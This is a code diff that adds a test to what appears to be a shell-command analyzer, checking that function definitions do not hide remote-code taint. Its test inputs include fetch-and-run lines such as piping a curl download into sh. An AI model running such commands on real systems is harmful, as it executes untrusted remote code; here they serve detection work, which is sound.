@@ -134,6 +134,13 @@ test("tells apart files that functions are given under the same number", () => {
   expect(commands.flatMap(({ runs }) => runs.map(({ value }) => value.taints[0]?.kind))).toStrictEqual(["decoded"]);
 });
 
+test("a function hides neither a file of the script's own nor a program of its name", () => {
+  const kinds = (text: string) =>
+    runShell(text).commands.flatMap(({ runs }) => runs.flatMap(({ value }) => value.taints.map(({ kind }) => kind)));
+  expect(kinds('curl -o "$1" https://a.dev/x; f() { :; }; sh "$1"')).toStrictEqual(["remote"]);
+  expect(kinds("if false; then curl() { :; }; fi; curl https://a.dev/x | sh")).toStrictEqual(["remote"]);
+});
+
 test("gives what is left of the parameters the first numbers", () => {
   const { commands } = runShell(
     'call() { method="$1"; shift; curl -X "$method" "$@" "$1"; }\ncall PUT https://a.dev -s',
